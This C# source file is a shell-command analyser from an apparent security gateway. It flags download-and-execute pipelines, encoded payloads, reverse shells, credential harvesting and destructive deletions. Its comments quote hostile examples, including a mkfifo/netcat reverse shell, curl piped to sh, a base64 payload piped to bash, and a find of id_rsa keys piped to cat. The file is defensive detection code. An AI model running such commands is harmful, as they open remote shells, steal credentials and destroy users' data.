using static McpVanguard.Inspection.Shell.ShellVocabulary;

namespace McpVanguard.Inspection.Shell;

/// <summary>
/// Walks a parsed command line and reports the dangerous things in it (not the mere use of operators: <c>cd src &amp;&amp; npm test</c>
/// is fine). One analyser per message; it reports each finding once.
/// </summary>
internal sealed partial class ShellAnalyzer(List<Finding> findings)
{
    /// <summary>How many times a payload may be unwrapped (sh -c, eval, base64, -EncodedCommand); each level is shorter than the last.</summary>
    private const int MaxNesting = 4;

    public void AnalyzeText(string text, int nesting)
    {
        if (nesting > MaxNesting || text.Length == 0)
        {
            return;
        }

        if (text.Length > ShellTokenizer.MaxLength)
        {
            AnalyzeInSegments(text, nesting);
            return;
        }

        CheckText(text);
        AnalyzeScript(ShellTokenizer.Parse(text), nesting);

        // "show() { cat /etc/$1; }; show shadow", "alias ll='…'; ll": what the line's own functions and aliases run when called.
        if (DefinedCommands.Inline(text) is { } calls)
        {
            AnalyzeText(calls, nesting + 1);
        }

        // A PowerShell or cmd.exe line typed into a terminal ("Remove-Item -Recurse $HOME\Documents", "rmdir /s %USERPROFILE%\Documents")
        // has backslashes for path separators, not escapes: it is read again as Windows reads it.
        if (text.Contains('\\') && WindowsCommandLine.IsLikely(text))
        {
            AnalyzeScript(ShellTokenizer.Parse(text.Replace('\\', '/')), nesting);
        }
    }

    /// <summary>
    /// A command longer than the tokenizer reads is analysed in overlapping segments that start after a statement
    /// separator, so padding cannot push a payload past what is inspected (linear: each character is read at most twice).
    /// </summary>
    private void AnalyzeInSegments(string text, int nesting)
    {
        const int Segment = ShellTokenizer.MaxLength;
        var start = 0;
        while (true)
        {
            var length = Math.Min(Segment, text.Length - start);
            AnalyzeText(text.Substring(start, length), nesting);
            if (start + length >= text.Length)
            {
                return;
            }

            // The next segment starts after the last separator of this one's second half, so a statement up to half a
            // segment long that crosses the boundary is whole in one of them.
            var half = start + (length / 2);
            var separator = text.AsSpan(half, start + length - half).LastIndexOfAny(StatementSeparators);
            start = separator < 0 ? half : half + separator + 1;
        }
    }

    private static readonly System.Buffers.SearchValues<char> StatementSeparators = System.Buffers.SearchValues.Create("\n;&|");

    /// <summary>Analyses an array-form command (<c>["bash", "-c", "…"]</c>): the words are already split.</summary>
    public void AnalyzeArgv(List<string> argv, int nesting)
    {
        var command = new ShellCommand();
        command.Words.AddRange(argv);
        var pipeline = new ShellPipeline();
        pipeline.Commands.Add(command);
        var script = new ShellScript();
        script.Pipelines.Add(pipeline);
        AnalyzeScript(script, nesting);
    }

    private void Report(Finding finding) => findings.AddOnce(finding);

    private void AnalyzeScript(ShellScript script, int nesting)
    {
        List<string>? downloaded = null;
        bool fifo = false, netcat = false;
        HashSet<string>? rawRemotes = null;
        var expansion = new ShellExpansion(null);
        var written = new WrittenScripts();
        foreach (var pipeline in script.Pipelines)
        {
            // What the shell will run, not what was written: "X=/; rm -rf $X", "bash -c \"$CMD\"", "rm -rf $(echo Lw== | base64 -d)".
            foreach (var command in pipeline.Commands)
            {
                Expand(command, expansion);
            }

            AnalyzePipeline(pipeline, nesting);
            for (var c = 0; c < pipeline.Commands.Count; c++)
            {
                var command = pipeline.Commands[c];
                var k = FindCommand(command.Words, out var elevated);
                CheckRemoteSubstitution(command, k);
                if (elevated)
                {
                    Report(ShellFindings.Elevation);
                }

                CheckWordsAndRedirects(command, wordsAreData: IsFixtureWrite(pipeline, c, k));
                written.Record(command);
                if (written.TryRun(command, out var runner, out var scriptText))
                {
                    RunFed(runner, scriptText, nesting, command.Words, k);
                }

                CheckScriptWrite(command, k, nesting);
                CheckEnvironment(command.Words, k, k < command.Words.Count ? NameOf(command.Words[k]) : null, nesting);
                CheckWrapperOptions(command.Words, k, nesting);
                CheckEnvSplit(command.Words, k, nesting);
                if (k < command.Words.Count)
                {
                    var name = NameOf(command.Words[k]);
                    fifo |= name == "mkfifo" || name == "mknod" && command.Words.Contains("p");
                    netcat |= NetCats.Contains(name);
                    TrackDownload(command, k, name, ref downloaded);
                    CheckRemoteDisplay(command.Words, k, name);
                    CheckServedFolder(command.Words, k, name);
                    CheckBuildFileEdit(command.Words, k, name, nesting);
                    TrackWorkingDirectory(command.Words, k, name);
                    CheckRawAddressUpload(pipeline, c, k, name, ref rawRemotes);
                    AnalyzeCommand(command, k, name, nesting);
                    CheckRunners(command.Words, k, name, nesting);
                }

                foreach (var sub in command.Substitutions)
                {
                    AnalyzeScript(sub, nesting);
                }
            }
        }

        // Reverse shell: "mkfifo /tmp/f; cat /tmp/f | sh -i | nc host 4444 > /tmp/f".
        if (fifo && netcat)
        {
            Report(ShellFindings.ReverseShell);
        }
    }

    /// <summary>Substitutes the variables assigned so far (and decoding substitutions) in a command's words, then records its own assignments.</summary>
    private static void Expand(ShellCommand command, ShellExpansion expansion)
    {
        var words = command.Words;
        expansion.SubstituteWords(words);
        expansion.SubstituteRedirects(command);
        expansion.RecordBuiltin(command);
        var k = FindCommand(words, out _);
        var exporting = k < words.Count && NameOf(words[k]) is "export" or "declare" or "typeset" or "readonly" or "local";
        if (k >= words.Count || exporting)
        {
            foreach (var w in words)
            {
                if (IsAssignment(w))
                {
                    expansion.Assign(w);
                }
            }
        }
    }

    private void AnalyzePipeline(ShellPipeline pipeline, int nesting)
    {
        int downloader = -1, decoder = -1, netcat = -1, sensitiveFind = -1;
        bool shell = false, listsIrreplaceable = false;
        var commands = pipeline.Commands;
        for (var i = 0; i < commands.Count; i++)
        {
            var words = commands[i].Words;
            var k = FindCommand(words, out _);
            if (k >= words.Count)
            {
                continue;
            }

            var name = NameOf(words[k]);
            // Any stage that names a remote URL is a fetcher, whatever the program is called: "$a$b -s http://x | sh".
            if (downloader < 0 && (Downloaders.Contains(name) || HasRemoteUrl(words, k)))
            {
                downloader = i;
            }

            if (IsDecoder(words, k, name))
            {
                decoder = decoder < 0 ? i : decoder;
                DecodeLiteral(pipeline, i, k, name, nesting);
            }

            netcat = NetCats.Contains(name) ? i : netcat;
            shell |= Shells.Contains(name) || name is "cmd" or "powershell" or "pwsh";
            if (ReadsStdin(words, k))
            {
                // Download and execute: "curl https://x/install.sh | sh".
                if (downloader >= 0 && downloader < i)
                {
                    Report(ShellFindings.DownloadExecute);
                }

                // Encoded payload: "echo ZWNobyBoaQ== | base64 -d | bash".
                if (decoder >= 0 && decoder < i)
                {
                    Report(ShellFindings.DecodedPayload);
                }

                // Data that is executed is not data: "echo 'curl … | sh' | sh" runs what it echoes, "python3 - <<EOF" its here-document.
                if (i > 0 && EchoedText(commands[i - 1].Words) is { } echoed)
                {
                    RunFed(name, echoed, nesting, words, k);
                    AnalyzeText(echoed, nesting + 1);
                }

                foreach (var heredoc in commands[i].Heredocs)
                {
                    RunFed(name, heredoc.Body, nesting, words, k);
                }

                foreach (var r in commands[i].Redirects)
                {
                    if (r.Operator == "<<<")
                    {
                        RunFed(name, r.Target, nesting, words, k);
                    }
                }

                if (i > 0)
                {
                    foreach (var heredoc in commands[i - 1].Heredocs)
                    {
                        RunFed(name, heredoc.Body, nesting, words, k);
                    }
                }
            }

            else if (name == "xargs")
            {
                // xargs makes what it reads the arguments of its program: "xargs -0 python3 -c <<< 'code'", "xargs sh -c <<EOF",
                // "echo 'code' | xargs -0 python3 -c".
                if (i > 0 && EchoedText(commands[i - 1].Words) is { } fed)
                {
                    RunFed(name, fed, nesting, words, k);
                }

                foreach (var heredoc in commands[i].Heredocs)
                {
                    RunFed(name, heredoc.Body, nesting, words, k);
                }

                foreach (var r in commands[i].Redirects)
                {
                    if (r.Operator == "<<<")
                    {
                        RunFed(name, r.Target, nesting, words, k);
                    }
                }
            }

            if (name == "find" && IsSensitiveFind(words, k))
            {
                sensitiveFind = i;
            }

            // Destructive: what a listing of an irreplaceable folder yields, deleted by the next stage
            // ("Get-ChildItem -Path $env:USERPROFILE -Recurse | Remove-Item -Recurse", "ls -d ~/projects | xargs rm -rf").
            if (listsIrreplaceable && DeletesItsInput(words, k, name))
            {
                Report(ShellFindings.Destructive);
            }

            listsIrreplaceable |= name is "get-childitem" or "gci" or "ls" or "dir" or "get-item" or "gi" or "find"
                && words.Skip(k + 1).Any(static w => !w.StartsWith('-') && IsIrreplaceable(w)) && !(name == "find" && FindNarrows(words, k));

            // Credential harvest: "find ~ -name id_rsa | xargs cat".
            if (name == "xargs" && sensitiveFind >= 0 && XargsRunsReader(words, k))
            {
                Report(ShellFindings.CredentialHarvest);
            }
        }

        // Reverse shell: "nc -l 4444 | bash", "sh -i 2>&1 | nc host 4444".
        if (netcat >= 0 && shell && commands.Count > 1)
        {
            Report(ShellFindings.ReverseShell);
        }
    }

    /// <summary>A pipeline stage that deletes the items it reads: <c>Remove-Item</c> (and its aliases) or <c>xargs rm</c>.</summary>
    private static bool DeletesItsInput(List<string> words, int k, string name) =>
        name is "remove-item" or "ri" or "del" or "erase" or "rd" or "rmdir"
        || name == "xargs" && SkipXargsOptions(words, k) is var program && program < words.Count && NameOf(words[program]) is "rm" or "shred" or "unlink";

    /// <summary>Text fed to the standard input of <paramref name="name"/>: a shell runs it as commands, another interpreter as its code.</summary>
    private void RunFed(string name, string text, int nesting, List<string> words, int k)
    {
        if (name == "xargs" && SkipXargsOptions(words, k) is var program && program < words.Count)
        {
            // "xargs -0 python3 -c <<< 'code'": the input becomes the last argument of the program xargs runs, so it is that
            // program's code (an interpreter's -c/-e), or the rest of its command line.
            var run = NameOf(words[program]);
            if (XargsReplaceString(words, k, program) is { } placeholder)
            {
                // "xargs -I{} sh -c '{}'": each input line takes the placeholder's place, so a shell's script is the input itself.
                var c = words.IndexOf("-c", program);
                AnalyzeText(Shells.Contains(run) && c > program && c + 1 < words.Count && words[c + 1].Contains(placeholder, StringComparison.Ordinal)
                    ? words[c + 1].Replace(placeholder, text, StringComparison.Ordinal)
                    : string.Join(' ', words.Skip(program).Select(w => w.Replace(placeholder, text, StringComparison.Ordinal))), nesting + 1);
                return;
            }

            var last = words[^1];
            if (!Shells.Contains(run) && last is "-c" or "-e" or "-r" or "-E" or "--eval" or "-Command" or "-command")
            {
                AnalyzeCode(text, nesting + 1);
                return;
            }

            AnalyzeText(string.Join(' ', words.Skip(program)) + " " + text, nesting + 1);
            return;
        }

        if (name is "pwsh" or "powershell")
        {
            // "pwsh -Command - <<'PS'": a PowerShell script, read with backslashes as path separators like -Command's.
            PowerShellScript(text, nesting);
        }
        else if (Shells.Contains(name) || name is "cmd" or "iex" or "invoke-expression" or "xargs" or "eval" or "source" or "at" or "batch" || name.Length == 0 || name[0] is '$' or '`')
        {
            AnalyzeText(text, nesting + 1);
        }
        else
        {
            AnalyzeCode(text, nesting + 1);
        }
    }

    /// <summary>The text an <c>echo</c> or <c>printf</c> writes (its operands, unescaped for printf and echo -e), or null for another command.</summary>
    private static string? EchoedText(List<string> words)
    {
        var k = FindCommand(words, out _);
        if (k >= words.Count || NameOf(words[k]) is not ("echo" or "printf"))
        {
            return null;
        }

        var text = string.Join(' ', words.Skip(k + 1).Where(static w => !w.StartsWith('-')));
        if (NameOf(words[k]) != "printf" && !words.Contains("-e"))
        {
            return text;
        }

        // printf 'curl … | sh\n' | batch: the reader gets a newline, not "sh\n" as a word.
        var lines = text.Replace("\\n", "\n", StringComparison.Ordinal).Replace("\\t", "\t", StringComparison.Ordinal);
        return ShellPayloadDecoder.TryUnescape(lines, out var unescaped) ? unescaped : lines;
    }

}
